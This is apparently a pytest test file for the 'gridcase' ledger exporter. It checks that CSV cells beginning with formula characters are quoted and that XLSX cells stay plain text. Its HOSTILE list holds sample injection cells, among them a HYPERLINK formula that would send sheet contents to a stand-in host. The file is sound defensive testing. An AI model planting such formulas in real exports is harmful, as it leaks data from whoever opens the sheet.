"""Exported tables are safe to open: no cell of a CSV or XLSX gridcase writes is ever a formula.

A finding, a title or a name is typed by whoever records it; a ledger is opened in
Excel by an official. OWASP's CSV injection: a CSV cell beginning with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is taken for a formula, which can fetch a URL
with the sheet's contents or start a program. Every writer is checked with the same
hostile cells, and so is the command line that writes each file.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import date, datetime, time
from pathlib import Path
from uuid import uuid4

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.xml import LXML as OPENPYXL_USES_LXML
from tests.builders import EVIDENCE
from tests.support import RULES, AdminEngine, credit_code, cst, engine_on

from gridcase import SubmitDemand
from gridcase.cli import main
from gridcase.interfaces.export import (
    FORMULA_START,
    VISIT_LEDGER_COLUMNS,
    Cell,
    Column,
    Table,
    csv_text,
    json_text,
    neutralised,
    problem_ledger_table,
    visit_ledger_table,
    write_csv,
    write_xlsx,
)
from gridcase.projections.ledger import LedgerRow
from gridcase.projections.visit_ledger import LedgerGrid, VisitLedgerRow

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
"""Cells a spreadsheet would evaluate, as OWASP lists their first characters."""

BENIGN = ["满负荷生产", "a=b", "订单 -20%", "3", "", "'已加引号"]
"""Cells that begin with nothing a spreadsheet evaluates: written as they are."""

TEXT_COLUMNS = [
    c.header
    for c in VISIT_LEDGER_COLUMNS
    if c.key not in {"no", "date", "time", "evidence", "cases", "recorded_at"}
]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read_csv_file(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def has_formula(path: Path) -> bool:
    """Whether the workbook's sheet holds a formula element, whatever openpyxl reads back."""
    with zipfile.ZipFile(path) as book:
        return re.search(r"<f[ >]", book.read("xl/worksheets/sheet1.xml").decode()) is not None


def read_xlsx(path: Path) -> list[list[tuple[object, str]]]:
    """Every cell's value and data type (``s`` text, ``n`` number, ``d`` date, ``f`` formula)."""
    from openpyxl import load_workbook

    sheet = load_workbook(path).active
    assert sheet is not None
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


def as_xml_reads_it(text: str) -> str:
    """The text as the workbook gives it back. openpyxl's own writer leaves a carriage
    return raw, which XML reads as a line feed; with lxml installed (the ``bench`` extra
    brings it, through SpiffWorkflow) openpyxl writes with lxml, which escapes the CR, and
    the text comes back exactly."""
    return text if OPENPYXL_USES_LXML else text.replace("\r", "\n")


def visit_whose_texts_are(text: str) -> VisitLedgerRow:
    """A visit whose every text, from the enterprise's name to the findings, is ``text``."""
    return VisitLedgerRow(
        visit_id=text,
        at=cst(2026, 3, 10, 10, 5),
        grids=(LedgerGrid(text, text, "horizontal"),),
        enterprise=text,
        enterprise_name=text,
        visitor=text,
        visitor_name=text,
        channel=text,
        purpose=text,
        operations=text,
        investment_intent=text,
        tax_status=text,
        difficulties=text,
        note=text,
        evidence=1,
        cases=(),
        recorded_at=cst(2026, 3, 10, 11),
    )


def case_whose_texts_are(text: str) -> LedgerRow:
    """A matter whose every free text (title, result, measures, delays) is ``text``."""
    return LedgerRow(
        case_id=uuid4(),
        jurisdiction="malu",
        enterprise=credit_code(1),
        title=text,
        category="consultation",
        channel="portal",
        submitted_at=cst(2026, 4, 1, 9),
        state="handling",
        delay_reasons=[text],
        responsible_leader=text,
        measures=text,
        result=text,
    )


class TestTheRule:
    @pytest.mark.parametrize("text", HOSTILE)
    def test_a_text_a_spreadsheet_would_evaluate_gets_a_quote_in_front(self, text: str) -> None:
        assert neutralised(text) == "'" + text

    @pytest.mark.parametrize("text", BENIGN)
    def test_any_other_text_is_left_as_it_is(self, text: str) -> None:
        assert neutralised(text) == text

    def test_a_negative_number_as_text_is_quoted_and_as_a_number_is_not(
        self, tmp_path: Path
    ) -> None:
        """Text "-3" is escaped, as OWASP asks (it cannot be told from "-1+2" without guessing);
        the number -3 is written as -3 in the CSV and as a number in the workbook."""
        table = Table((Column("text"), Column("number")), ({"text": "-3", "number": -3},))
        assert read_csv(csv_text(table))[1] == ["'-3", "-3"]
        write_xlsx(table, tmp_path / "n.xlsx", title="t")
        assert read_xlsx(tmp_path / "n.xlsx")[1] == [("-3", "s"), (-3, "n")]
        assert json.loads(json_text(table)) == [{"text": "-3", "number": -3}]

    @given(st.text())
    def test_no_csv_cell_ever_begins_a_formula(self, text: str) -> None:
        """Whatever the text, its CSV cell reads back as the text, or as the text behind a quote."""
        table = Table((Column("text"),), ({"text": text},))
        (cell,) = read_csv(csv_text(table))[1]
        assert not cell.startswith(FORMULA_START)
        assert cell == (("'" + text) if text.startswith(FORMULA_START) else text)


class TestTheVisitLedger:
    def test_csv_quotes_every_hostile_text_and_keeps_the_rest(self, tmp_path: Path) -> None:
        """Every text column of every hostile visit reads back behind a quote; counts and dates do not."""
        rows = [visit_whose_texts_are(text) for text in HOSTILE]
        path = tmp_path / "ledger.csv"
        write_csv(visit_ledger_table(rows), path)
        header, *lines = read_csv_file(path)
        for text, line in zip(HOSTILE, lines, strict=True):
            cells = dict(zip(header, line, strict=True))
            assert {cells[h] for h in TEXT_COLUMNS} == {"'" + text}
            assert cells["序号 (no.)"].isdigit()
            assert cells["印证资料数 (evidence)"] == "1"
            assert cells["走访日期 (date)"] == "2026-03-10"

    def test_xlsx_keeps_every_hostile_text_exactly_and_as_text(self, tmp_path: Path) -> None:
        """No quote is needed in a workbook: each hostile text is a text cell, never a formula."""
        rows = [visit_whose_texts_are(text) for text in HOSTILE]
        path = tmp_path / "ledger.xlsx"
        write_xlsx(visit_ledger_table(rows), path, title="走访台账 2026-03")
        header, *lines = read_xlsx(path)
        headers = [value for value, _ in header]
        for text, line in zip(HOSTILE, lines, strict=True):
            cells = dict(zip(headers, line, strict=True))
            assert {cells[h] for h in TEXT_COLUMNS} == {(as_xml_reads_it(text), "s")}
            assert cells["印证资料数 (evidence)"] == (1, "n")
            assert cells["走访日期 (date)"] == (datetime(2026, 3, 10), "d")
        assert not has_formula(path)

    def test_benign_texts_are_written_as_recorded(self, tmp_path: Path) -> None:
        """A finding that merely contains "=" or "-", or already begins with a quote, is not touched."""
        texts = [text for text in BENIGN if text]
        rows = [visit_whose_texts_are(text) for text in texts]
        write_csv(visit_ledger_table(rows), tmp_path / "ok.csv")
        write_xlsx(visit_ledger_table(rows), tmp_path / "ok.xlsx", title="t")
        note = [c.key for c in VISIT_LEDGER_COLUMNS].index("note")
        assert [line[note] for line in read_csv_file(tmp_path / "ok.csv")[1:]] == texts
        assert [row[note] for row in read_xlsx(tmp_path / "ok.xlsx")[1:]] == [
            (text, "s") for text in texts
        ]


class TestTheProblemLedger:
    def test_csv_quotes_every_hostile_text(self) -> None:
        table = problem_ledger_table([case_whose_texts_are(text) for text in HOSTILE])
        header, *lines = read_csv(csv_text(table))
        for text, line in zip(HOSTILE, lines, strict=True):
            cells = dict(zip(header, line, strict=True))
            for key in ("title", "delay_reasons", "responsible_leader", "measures", "result"):
                assert cells[key] == "'" + text, key
            assert cells["level"] == "0"
            assert cells["submitted_at"] == "2026-04-01T09:00:00+08:00"

    def test_json_is_data_and_left_alone(self) -> None:
        """Programs read the JSON: what was recorded is what they get."""
        table = problem_ledger_table([case_whose_texts_are(text) for text in HOSTILE])
        assert [r["title"] for r in json.loads(json_text(table))] == HOSTILE


class TestAnyTable:
    def test_moments_dates_times_and_absent_values(self, tmp_path: Path) -> None:
        """The writers' other cells: a moment to the minute, a date, a time, nothing at all."""
        columns = (Column("at"), Column("day"), Column("time"), Column("none"), Column("flag"))
        row: dict[str, Cell] = {
            "at": datetime(2026, 3, 10, 9, 30),
            "day": date(2026, 3, 10),
            "time": time(9, 30),
            "none": None,
            "flag": True,
        }
        table = Table(columns, (row,))
        assert read_csv(csv_text(table))[1] == [
            "2026-03-10 09:30",
            "2026-03-10",
            "09:30",
            "",
            "True",
        ]
        assert json.loads(json_text(table)) == [
            {
                "at": "2026-03-10T09:30:00",
                "day": "2026-03-10",
                "time": "09:30:00",
                "none": None,
                "flag": True,
            }
        ]
        write_xlsx(table, tmp_path / "t.xlsx", title="t")
        assert [v for v, _ in read_xlsx(tmp_path / "t.xlsx")[1]] == [
            datetime(2026, 3, 10, 9, 30),
            datetime(2026, 3, 10),
            time(9, 30),
            None,
            True,
        ]

    def test_a_row_must_fill_exactly_the_columns(self) -> None:
        with pytest.raises(ValueError, match="row 1"):
            Table((Column("a"),), ({"a": 1, "b": 2},))


class TestTheCommandLine:
    """What an official gets from ``gridcase``: the same rule, through the store and back."""

    def test_visits_ledger_csv_and_xlsx(self, tmp_path: Path) -> None:
        url = f"sqlite:///{tmp_path / 'v.db'}"
        code = credit_code(61, division="520502")
        with engine_on(url, cst(2026, 3, 1, 9), rules=RULES) as (e, clock):
            e.roster.register_person(
                jurisdiction="bijie", person_id="li", name="李四", roles=["officer"], command_id="p"
            )
            e.roster.register_enterprise(
                jurisdiction="bijie",
                credit_code=code,
                name=HOSTILE[0],
                in_scope_from=date(2026, 1, 5),
                command_id="e",
            )
            # Tab and CR are checked at the writers above: the roster may refuse control
            # characters in findings (issue 11), which is not what this test is about.
            printable = [t for t in HOSTILE if not t.startswith(("\t", "\r"))]
            for n, text in enumerate(printable, start=1):
                clock.set(cst(2026, 3, n + 1, 12))
                e.roster.record_visit(
                    jurisdiction="bijie",
                    enterprise=code,
                    visitor="li",
                    visited_at=cst(2026, 3, n + 1, 10),
                    channel="on_site",
                    findings={"operations": text, "note": text},
                    evidence=[EVIDENCE],
                    visit_id=f"V-{n}",
                    command_id=f"v/{n}",
                )
        out_csv, out_xlsx = tmp_path / "l.csv", tmp_path / "l.xlsx"
        common = ["visits", "ledger", "-j", "bijie", "--month", "2026-03", "--url", url]
        for args in (["--csv", str(out_csv)], ["--xlsx", str(out_xlsx)]):
            done = CliRunner().invoke(main, [*common, *args, "--rules", str(RULES)])
            assert done.exit_code == 0, done.output
        header, *lines = read_csv_file(out_csv)
        columns = [header.index(c) for c in ("企业名称 (enterprise)", "生产经营 (operations)")]
        assert [[line[i] for i in columns] for line in lines] == [
            ["'" + HOSTILE[0], "'" + text] for text in printable
        ]
        _, *cells = read_xlsx(out_xlsx)
        assert [[row[i] for i in columns] for row in cells] == [
            [(HOSTILE[0], "s"), (text, "s")] for text in printable
        ]
        assert not has_formula(out_xlsx)

    def test_cases_list_csv(self, tmp_path: Path) -> None:
        url = f"sqlite:///{tmp_path / 'c.db'}"
        code = credit_code(21)
        with AdminEngine(url, rules=RULES) as engine:
            engine.register_enterprise(
                jurisdiction="malu",
                credit_code=code,
                name="企业",
                command_id="e",
                in_scope_from=date(2024, 1, 1),
            )
            for n, text in enumerate(HOSTILE[:4]):
                engine.submit(
                    SubmitDemand(
                        jurisdiction="malu",
                        enterprise=code,
                        category="consultation",
                        title=text,
                        actor=code,
                        role="enterprise",
                        command_id=f"s/{n}",
                    )
                )
        done = CliRunner().invoke(main, ["cases", "list", "--url", url, "--format", "csv"])
        assert done.exit_code == 0, done.output
        titles = {row["title"] for row in csv.DictReader(io.StringIO(done.output))}
        assert titles == {"'" + text for text in HOSTILE[:4]}
